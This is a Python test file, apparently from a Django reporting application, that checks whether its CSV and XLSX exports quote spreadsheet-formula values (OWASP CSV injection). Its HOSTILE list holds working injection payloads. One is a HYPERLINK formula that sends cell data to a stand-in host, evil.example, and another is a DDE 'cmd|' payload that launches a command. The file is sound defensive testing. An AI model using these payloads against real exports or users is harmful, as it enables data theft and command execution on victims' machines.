"""No text cell of any export can be read as a spreadsheet formula (OWASP CSV injection).

Hostile values are planted in every text field that reaches an export: the approver's comment,
the analyst's and approver's names, a borough's name, an exclusion factor's label, a provider's
name and an encounter reference stored despite the import check. Numbers stay numbers.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from audit.exports import audit_export
from audit.models import Action
from audit.selectors import AuditFilter
from audit.services import audit_record
from boroughs.models import Borough
from diversion.exports import encounters_export
from diversion.formula_safety import FORMULA_STARTS, PLAIN_NUMBER, safe_cell
from diversion.models import Encounter, ExclusionFactor
from reports.renderings import render
from reports.workflow import report_approve, report_submit
from tests.diversion.factories import EncounterFactory, ProviderFactory, pilot_borough
from tests.reports.factories import SAMPLE, make_version

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/x?"&B7,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
]


def is_safe(value) -> bool:
    if not isinstance(value, str):
        return True
    return not value.startswith(FORMULA_STARTS) or bool(PLAIN_NUMBER.fullmatch(value))


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -0.25, 0, "-3", "-0.25", "-12.5%", "plain", "", None])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def hostile_report(analyst, approver):
    analyst.first_name, analyst.last_name = HOSTILE[1], HOSTILE[2]
    analyst.save()
    approver.first_name, approver.last_name = HOSTILE[3], HOSTILE[4]
    approver.save()
    # An admin renames a borough and labels an exclusion factor with formulas.
    Borough.objects.filter(gss_code=SAMPLE["activity"][0]["borough"]).update(name=HOSTILE[0])
    ExclusionFactor.objects.filter(code="supply_indicators").update(label=HOSTILE[5])
    version = make_version(built_by=analyst)
    report_submit(version=version, by=analyst)
    return report_approve(version=version, by=approver, comment=HOSTILE[0])


def test_every_report_csv_cell_is_safe(hostile_report):
    text = render(hostile_report, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE[0] in cells  # the comment is there, as text
    assert [cell for cell in cells if not is_safe(cell)] == []


def test_every_report_xlsx_cell_is_text_or_a_number(hostile_report):
    book = load_workbook(io.BytesIO(render(hostile_report, "xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if not is_safe(c.value)] == []
    values = [c.value for c in cells]
    assert "'" + HOSTILE[0] in values
    # Counts and rates are still numbers a spreadsheet can add up.
    assert any(isinstance(v, int) for v in values) and any(isinstance(v, float) for v in values)


def test_every_encounter_export_cell_is_safe():
    borough = pilot_borough()
    ProviderFactory(name=HOSTILE[0], boroughs=[borough])
    hostile = EncounterFactory(borough=borough, accepted=True)
    EncounterFactory(borough=borough, encounter_ref="ENC-PLAIN")
    # References are refused on the way in; a row stored before that rule must still be safe.
    Encounter.objects.filter(pk=hostile.pk).update(encounter_ref=HOSTILE[1])
    out = io.StringIO()
    encounters_export(stream=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(rows) == 3
    assert [cell for row in rows for cell in row if not is_safe(cell)] == []
    assert "'" + HOSTILE[1] in rows[1] + rows[2]


def test_every_audit_export_cell_is_safe(officer):
    for value in HOSTILE:
        audit_record(by=value, action=Action.SIGN_IN_FAILED, target=value, detail=value)
    out = io.StringIO()
    assert audit_export(stream=out, filters=AuditFilter()) == len(HOSTILE)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [cell for row in rows for cell in row if not is_safe(cell)] == []
